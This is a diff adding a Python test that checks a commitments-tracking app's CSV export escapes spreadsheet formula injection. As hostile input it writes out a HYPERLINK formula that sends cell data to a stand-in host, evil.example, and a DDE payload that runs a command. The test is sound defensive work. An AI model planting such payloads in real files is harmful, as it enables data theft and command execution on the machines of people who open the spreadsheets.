@@ -122,3 +122,32 @@ def test_report_names_the_sessions(app, session, monkeypatch):
     assert [a["status_label"] for a in m6["activities"]] == ["Se evalúa con la meta"] * 2
     activities = next(m for m in export.as_json(c, public=True)["milestones"] if m["number"] == 6)["activities"]
     assert [(a["status"], a["percent"]) for a in activities] == [(None, None)] * 2
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(app, client, tmp_path):
+    """A plan's means and session names come from whoever wrote the plan file; opened in a spreadsheet, a cell
+    starting with = + - @ would run as a formula."""
+    import copy
+    import csv
+
+    from tests.helpers import BECAS, import_plan
+
+    hostile = copy.deepcopy(BECAS)
+    milestone = hostile["commitments"][0]["milestones"][1]
+    milestone["requirements"] = ['=HYPERLINK("http://evil.example/?"&A1,"Ver")',
+                                 {"means": "@SUM(1+1)*cmd|' /C calc'!A0", "scope": "each_activity"}]
+    milestone["activities"] = [{"name": "+Reunión", "date": "2025-04-10"},
+                               {"name": "-Cierre", "date": "2025-04-11"}]
+    import_plan(app, tmp_path, hostile)
+    for path in ("/compromisos/becas-padron-abierto/cumplimiento.csv", "/cumplimiento.csv"):
+        r = client.get(path, query_string={"as_of": "2025-06-01"})
+        assert r.status_code == 200
+        rows = list(csv.reader(io.StringIO(r.get_data(as_text=True).lstrip("\ufeff"))))
+        cells = [cell for row in rows for cell in row]
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], path
+        if "becas" in path:
+            assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Ver\")" in cells
+            assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
+            assert any(cell.startswith("'+Reunión") or cell.startswith("'-Cierre") for cell in cells), cells
+    assert export.spreadsheet_safe("2019-10-24") == "2019-10-24"
+    assert export.spreadsheet_safe("-") == "'-"
